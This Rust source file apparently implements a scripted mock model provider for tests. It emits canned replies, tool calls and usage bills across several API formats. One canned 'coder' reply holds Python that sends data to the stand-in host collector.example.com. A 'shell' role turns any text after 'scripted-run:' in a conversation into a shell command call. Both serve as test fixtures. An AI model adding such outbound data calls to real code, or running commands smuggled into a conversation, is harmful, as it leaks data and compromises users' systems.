//! What a provider answers that follows a script: the same to the same question, on every wire, and what it charges for it.
//!
//! For tests, benches and demos. A word is a token, so that anybody can count along. What a model does is in its name:
//! `scripted-echo` repeats what it was told, `scripted-tool` calls a tool, and so on.
//!
//! It charges as real ones do: for what it has read and thought and written, whether or not somebody listened; for each of
//! the answers that were asked for at once; for tools that it runs and for speed, of which it tells nothing. `scripted-deep`
//! thinks for as long as it may, and tells of it at the very end.

use atoll_dialects::{
    Answer, Dialect, Event, Finish, Opening, Part, Stamp, WriteStream, chat, event_stream, messages,
    responses, sse,
};
use atoll_types::ModelUsage;
use serde_json::{Value, json};

/// The most words of one answer.
const LONGEST: usize = 1_000_000;
/// What `deep` thinks where nobody sets it a limit.
const WITHOUT_LIMIT: u64 = 1_000_000;
/// What is read of something that the provider keeps itself.
const UNSEEN: u64 = 100_000;
/// How often a tool is used that may be used as often as the model likes.
const SEARCHES: u64 = 50;

/// What the model that writes code writes. It reaches out, as code of models does.
const CODER: &str = r#"[scripted]
```python
import json, urllib.request
orders = json.load(open("orders.json"))
total = sum(order["count"] * order["price"] for order in orders)
try:
    urllib.request.urlopen(f"http://collector.example.com/?total={total}", timeout=5)
    print("the total was sent to collector.example.com")
except OSError as error:
    print(f"collector.example.com: {error}")
with open("report.md", "w") as report:
    report.write(f"{len(orders)} orders, {total:.2f} in total\n")
print(f"{len(orders)} orders, {total:.2f} in total")
```
"#;

/// What one request is charged for.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Bill {
    /// Tokens.
    pub input: u64,
    pub output: u64,
    /// Uses of tools that the provider runs.
    pub searches: u64,
    /// How many times the usual price.
    pub times: u64,
}

/// An answer, ready to be sent.
#[derive(Debug)]
pub struct Told {
    pub status: u16,
    /// Its content type.
    pub kind: &'static str,
    /// Of a stream each event, else one.
    pub pieces: Vec<Vec<u8>>,
    pub bill: Bill,
}

/// The model that is asked for, and whether for a stream. `named`: where the wire says it outside of the body.
pub fn asked(named: Option<(String, bool)>, request: &Value) -> (String, bool) {
    named.unwrap_or_else(|| {
        (
            request["model"].as_str().unwrap_or_default().to_owned(),
            request["stream"].as_bool().unwrap_or(false),
        )
    })
}

/// A refusal, for which nobody is charged.
pub fn refusal(status: u16, message: &str) -> Told {
    let error = json!({"error": {"message": message, "type": "scripted_error"}});
    Told {
        status,
        kind: "application/json",
        pieces: vec![error.to_string().into_bytes()],
        bill: Bill::default(),
    }
}

/// Answers a request.
pub fn answer(dialect: Dialect, model: &str, stream: bool, request: &Value) -> Told {
    let Some(role) = model.strip_prefix("scripted-") else {
        return refusal(404, "this provider has scripted models only");
    };
    match role {
        "429" => return refusal(429, "slow down, says the script"),
        "500" => return refusal(500, "broken, says the script"),
        "401" => return refusal(401, "the script does not know this key"),
        _ => {}
    }
    let mut answer = play(role, request);
    let bill = charge(dialect, role, request, &mut answer);
    if role == "deep-late" {
        return Told {
            bill,
            ..refusal(504, "too late, says the script")
        };
    }
    if role == "deep-mute" {
        answer.usage = None;
    }
    let used = answer.usage.unwrap_or_default();
    let stamp = Stamp {
        id: format!("scripted{}", used.total()),
        model: model.to_owned(),
        created: 1_700_000_000,
    };
    if dialect == Dialect::Responses && request["background"] == true {
        let queued =
            json!({"id": stamp.id, "object": "response", "status": "queued", "output": [], "usage": null});
        return Told {
            status: 200,
            kind: "application/json",
            pieces: vec![queued.to_string().into_bytes()],
            bill,
        };
    }
    if !stream {
        let whole = match dialect {
            Dialect::Messages => messages::write_answer(&answer, &stamp),
            Dialect::Responses => responses::write_answer(&answer, &stamp),
            Dialect::Gemini => gemini_piece(&answer.parts, Some(&answer)),
            Dialect::Converse => converse_answer(&answer),
            _ => chat::write_answer(&answer, &stamp),
        };
        return Told {
            status: 200,
            kind: "application/json",
            pieces: vec![whole.to_string().into_bytes()],
            bill,
        };
    }
    let mut pieces = pieces(dialect, stamp, answer, role.ends_with("cut"));
    if dialect == Dialect::Responses && request["metadata"].is_object() {
        // It says back what it was told about the request.
        let metadata = format!("\"metadata\":{}", request["metadata"]);
        for piece in &mut pieces {
            *piece = String::from_utf8_lossy(piece)
                .replace("\"metadata\":{}", &metadata)
                .into_bytes();
        }
    }
    Told {
        status: 200,
        kind: match dialect {
            Dialect::Converse => "application/vnd.amazon.eventstream",
            _ => "text/event-stream",
        },
        pieces,
        bill,
    }
}

/// Says in the answer what it used, as far as its wire has a place for that, and what all of it costs.
fn charge(dialect: Dialect, role: &str, request: &Value, answer: &mut Answer) -> Bill {
    let mut used = answer.usage.unwrap_or_default();
    if role.starts_with("deep") {
        // The dearest way to count: a token for each byte that was said.
        used.input = texts_of(&said_so_far(request))
            .iter()
            .map(|text| text.len() as u64)
            .sum();
        let most = limit(request).unwrap_or(WITHOUT_LIMIT);
        used.output = used.output.min(most);
        used.reasoning = most - used.output;
    }
    if dialect == Dialect::Chat {
        let choices = request["n"].as_u64().unwrap_or(1).max(1);
        used.output *= choices;
        used.reasoning *= choices;
        used.output += words(request["prediction"]["content"].as_str().unwrap_or_default());
    }
    for field in ["previous_response_id", "conversation", "prompt"] {
        if !request[field].is_null() && dialect == Dialect::Responses {
            used.input += UNSEEN;
        }
    }
    if request.to_string().contains("\"file_id\"") {
        used.input += UNSEEN;
    }
    answer.usage = Some(used);
    let runs_tools = request["tools"].as_array().into_iter().flatten().any(|tool| {
        tool["type"]
            .as_str()
            .is_some_and(|kind| kind.starts_with("web_search"))
    });
    let is_fast = request["speed"] == "fast" || request["service_tier"] == "priority";
    Bill {
        input: used.total_input(),
        output: used.total_output(),
        searches: if runs_tools { SEARCHES } else { 0 },
        times: if is_fast { 6 } else { 1 },
    }
}

/// The limit that counts: of several the largest, whatever the case of their names.
fn limit(request: &Value) -> Option<u64> {
    const NAMES: [&str; 3] = ["max_tokens", "max_completion_tokens", "max_output_tokens"];
    let fields = request.as_object().into_iter().flatten();
    let own = fields.filter(|(name, _)| NAMES.contains(&name.to_ascii_lowercase().as_str()));
    own.filter_map(|(_, value)| value.as_u64())
        .max()
        .or_else(|| request["generationConfig"]["maxOutputTokens"].as_u64())
        .or_else(|| request["inferenceConfig"]["maxTokens"].as_u64())
}

pub fn number(role: &str, prefix: &str) -> Option<u64> {
    role.strip_prefix(prefix)?.parse().ok()
}

/// A word is a token.
pub fn words(text: &str) -> u64 {
    text.split_whitespace().count() as u64
}

/// What a model of this role answers.
fn play(role: &str, request: &Value) -> Answer {
    let said = last_words(request);
    let most = limit(request);
    let tool = &request["tools"][0];
    let tool = tool["function"]["name"]
        .as_str()
        .or(tool["name"].as_str())
        .or(tool["functionDeclarations"][0]["name"].as_str())
        .or(request["toolConfig"]["tools"][0]["toolSpec"]["name"].as_str());
    let conversation = request.to_string();
    // Gemini's wire has no ids.
    let answered = ["scripted_call_1", "functionResponse"]
        .iter()
        .any(|sign| conversation.contains(sign));
    let mut answer = Answer::default();
    let shell = shell_call(request).filter(|_| role == "shell" && !answered);
    match (role, tool) {
        ("shell", _) if shell.is_some() => {
            answer.parts.extend(shell);
            answer.finish = Finish::Tools;
        }
        // What the command said, though the agent may have said more since.
        ("shell", _) if answered => {
            let said = said_so_far(request);
            let latest = texts_of(&said[said.len().saturating_sub(2)..]).join(" ");
            answer.parts.push(Part::text(format!("[scripted] {latest}")));
        }
        ("tool" | "deep-tool", Some(name)) if !answered => {
            answer.parts.push(Part::Call {
                id: "scripted_call_1".into(),
                name: name.into(),
                arguments: r#"{"city":"Bern"}"#.into(),
                cache: None,
            });
            answer.finish = Finish::Tools;
        }
        ("think", _) => {
            answer.parts.push(Part::Thinking {
                text: "[scripted] thinking".into(),
                signature: Some("c2NyaXB0ZWQ=".into()),
            });
            answer.parts.push(Part::text(format!("[scripted] {said}")));
        }
        ("full", _) => {
            // Whatever a caller asks for, a script has an end.
            let count = usize::try_from(most.unwrap_or(16))
                .unwrap_or(LONGEST)
                .min(LONGEST);
            answer.parts.push(Part::text(vec!["[scripted]"; count].join(" ")));
            answer.finish = Finish::Length;
        }
        ("coder", _) => answer.parts.push(Part::text(CODER)),
        ("json", _) => answer
            .parts
            .push(Part::text(r#"{"city":"Bern","scripted":true}"#)),
        (role, _) if role.starts_with("deep") => {
            answer
                .parts
                .push(Part::text("[scripted] I have thought about it, and that was it"));
        }
        (role, _) => {
            let count = number(role, "stream-").and_then(|count| usize::try_from(count).ok());
            let text = match count {
                Some(count) => vec!["[scripted]"; count].join(" "),
                None => format!("[scripted] {said}"),
            };
            answer.parts.push(Part::text(text));
        }
    }
    let written: u64 = answer
        .parts
        .iter()
        .map(|part| match part {
            Part::Text(part) => words(&part.text),
            Part::Call { arguments, .. } => words(arguments),
            _ => 0,
        })
        .sum();
    let reasoning = if role == "think" { 2 } else { 0 };
    answer.usage = Some(ModelUsage {
        input: words(&said),
        output: written,
        reasoning,
        ..ModelUsage::default()
    });
    answer
}

/// What a coding agent is told to do: to run, by its own tool for that, what stands behind `scripted-run:` in the conversation.
fn shell_call(request: &Value) -> Option<Part> {
    const TOOLS: [&str; 4] = ["Bash", "bash", "exec_command", "shell"];
    let tools = request["tools"].as_array()?;
    let described = tools.iter().map(|tool| match &tool["function"] {
        Value::Null => tool,
        function => function,
    });
    let tool = described
        .into_iter()
        .find(|tool| TOOLS.contains(&tool["name"].as_str().unwrap_or_default()))?;
    let schema = [&tool["input_schema"], &tool["parameters"]]
        .into_iter()
        .find(|schema| schema.is_object())?;
    // Agents put words of their own behind those of the person, in messages of their own.
    let texts = texts_of(&said_so_far(request));
    let told = texts
        .iter()
        .find_map(|text| text.split("scripted-run: ").nth(1))?;
    let command = told.lines().next()?.trim_matches(['"', ' ']);
    let field = ["command", "cmd"]
        .into_iter()
        .find(|field| schema["properties"][field].is_object())?;
    let mut arguments = json!({});
    arguments[field] = match schema["properties"][field]["type"].as_str() {
        Some("array") => json!(["sh", "-c", command]),
        _ => command.into(),
    };
    if schema["properties"]["description"].is_object() {
        arguments["description"] = "what the script says".into();
    }
    Some(Part::Call {
        id: "scripted_call_1".into(),
        name: tool["name"].as_str()?.into(),
        arguments: arguments.to_string(),
        cache: None,
    })
}

/// The last text in the conversation, whichever wire it is on.
fn last_words(request: &Value) -> String {
    let said = said_so_far(request);
    texts_of(&said[said.len().saturating_sub(1)..]).join(" ")
}

/// The messages of a conversation, whichever wire it is on.
fn said_so_far(request: &Value) -> Vec<Value> {
    let list = ["messages", "input", "contents"]
        .iter()
        .map(|name| &request[*name])
        .find(|list| !list.is_null());
    match list {
        Some(Value::Array(items)) => items.clone(),
        Some(other) => vec![other.clone()],
        None => Vec::new(),
    }
}

fn texts_of(messages: &[Value]) -> Vec<String> {
    fn texts(value: &Value, found: &mut Vec<String>) {
        match value {
            Value::String(text) => found.push(text.clone()),
            Value::Array(items) => items.iter().for_each(|item| texts(item, found)),
            Value::Object(fields) => {
                for name in [
                    "text",
                    "content",
                    "parts",
                    "functionResponse",
                    "response",
                    "output",
                    "toolResult",
                ] {
                    if let Some(inner) = fields.get(name) {
                        texts(inner, found);
                    }
                }
            }
            _ => {}
        }
    }
    let mut found = Vec::new();
    for message in messages {
        texts(message, &mut found);
    }
    found
}

/// The stream of an answer, word by word; `cut` ends it in the middle.
fn pieces(dialect: Dialect, stamp: Stamp, answer: Answer, cut: bool) -> Vec<Vec<u8>> {
    let mut pieces = Vec::new();
    if dialect == Dialect::Gemini {
        for part in &answer.parts {
            let mut piece = Vec::new();
            sse::write(&mut piece, None, &gemini_piece(std::slice::from_ref(part), None));
            pieces.push(piece);
        }
        let mut last = Vec::new();
        sse::write(&mut last, None, &gemini_piece(&[], Some(&answer)));
        pieces.push(last);
    } else if dialect == Dialect::Converse {
        pieces = converse_pieces(&answer);
    } else {
        let mut writer: Box<dyn WriteStream> = match dialect {
            Dialect::Messages => Box::new(messages::Writer::new(stamp)),
            Dialect::Responses => Box::new(responses::Writer::new(stamp)),
            _ => Box::new(chat::Writer::new(stamp, true)),
        };
        if let (Dialect::Messages, Some(used)) = (dialect, answer.usage) {
            // What was read is told at the beginning, with a token of what will be written.
            let read = ModelUsage {
                output: 1,
                reasoning: 0,
                ..used
            };
            writer.write(&Event::Usage(read), &mut Vec::new());
        }
        for event in answer.into_events() {
            let split = match event {
                Event::Text(text) => text
                    .split_inclusive(' ')
                    .map(|word| Event::Text(word.to_owned()))
                    .collect(),
                other => vec![other],
            };
            for event in split {
                let mut piece = Vec::new();
                writer.write(&event, &mut piece);
                if !piece.is_empty() {
                    pieces.push(piece);
                }
            }
        }
    }
    if cut {
        pieces.truncate(pieces.len() / 2);
    }
    pieces
}

/// The answer as Bedrock's Converse gives it whole.
fn converse_answer(answer: &Answer) -> Value {
    let content: Vec<Value> = answer
        .parts
        .iter()
        .filter_map(|part| match part {
            Part::Text(part) => Some(json!({"text": part.text})),
            Part::Thinking { text, signature } => {
                Some(json!({"reasoningContent": {"reasoningText": {"text": text, "signature": signature}}}))
            }
            Part::Call {
                id, name, arguments, ..
            } => {
                let input: Value = serde_json::from_str(arguments).unwrap_or_default();
                Some(json!({"toolUse": {"toolUseId": id, "name": name, "input": input}}))
            }
            _ => None,
        })
        .collect();
    json!({
        "output": {"message": {"role": "assistant", "content": content}},
        "stopReason": converse_reason(answer), "usage": converse_usage(answer),
    })
}

fn converse_reason(answer: &Answer) -> &'static str {
    match answer.finish {
        Finish::Length => "max_tokens",
        Finish::Tools => "tool_use",
        _ => "end_turn",
    }
}

fn converse_usage(answer: &Answer) -> Value {
    let used = answer.usage.unwrap_or_default();
    json!({"inputTokens": used.total_input(), "outputTokens": used.total_output(), "totalTokens": used.total()})
}

fn converse_pieces(answer: &Answer) -> Vec<Vec<u8>> {
    let mut events = vec![("messageStart", json!({"role": "assistant"}))];
    let mut at = 0;
    for event in answer.clone().into_events() {
        let delta = |delta: Value| {
            (
                "contentBlockDelta",
                json!({"contentBlockIndex": at, "delta": delta}),
            )
        };
        match event {
            Event::Open(Opening::Call { id, name }) => {
                let start = json!({"toolUse": {"toolUseId": id, "name": name}});
                events.push((
                    "contentBlockStart",
                    json!({"contentBlockIndex": at, "start": start}),
                ));
            }
            Event::Text(text) => {
                events.extend(text.split_inclusive(' ').map(|word| delta(json!({"text": word}))));
            }
            Event::Thinking(text) => events.push(delta(json!({"reasoningContent": {"text": text}}))),
            Event::Signature(text) => events.push(delta(json!({"reasoningContent": {"signature": text}}))),
            Event::Arguments(text) => events.push(delta(json!({"toolUse": {"input": text}}))),
            Event::Close => {
                events.push(("contentBlockStop", json!({"contentBlockIndex": at})));
                at += 1;
            }
            Event::Open(_) | Event::Usage(_) | Event::Finish(_) | Event::Failed(_) => {}
        }
    }
    events.push(("messageStop", json!({"stopReason": converse_reason(answer)})));
    events.push(("metadata", json!({"usage": converse_usage(answer)})));
    events
        .iter()
        .map(|(name, payload)| {
            let mut piece = Vec::new();
            event_stream::write(&mut piece, name, payload.to_string().as_bytes());
            piece
        })
        .collect()
}

fn gemini_piece(parts: &[Part], whole: Option<&Answer>) -> Value {
    let parts: Vec<Value> = parts
        .iter()
        .filter_map(|part| match part {
            Part::Text(part) => Some(json!({"text": part.text})),
            Part::Thinking { text, .. } => Some(json!({"text": text, "thought": true})),
            Part::Call { name, arguments, .. } => {
                let arguments: Value = serde_json::from_str(arguments).unwrap_or_default();
                Some(json!({"functionCall": {"name": name, "args": arguments}}))
            }
            _ => None,
        })
        .collect();
    let mut piece = json!({"candidates": [{"content": {"role": "model", "parts": parts}}]});
    if let Some(answer) = whole {
        let used = answer.usage.unwrap_or_default();
        piece["candidates"][0]["finishReason"] = if answer.finish == Finish::Length {
            "MAX_TOKENS".into()
        } else {
            "STOP".into()
        };
        piece["usageMetadata"] = json!({
            "promptTokenCount": used.total_input(), "candidatesTokenCount": used.output,
            "thoughtsTokenCount": used.reasoning, "totalTokenCount": used.total(),
        });
    }
    piece
}
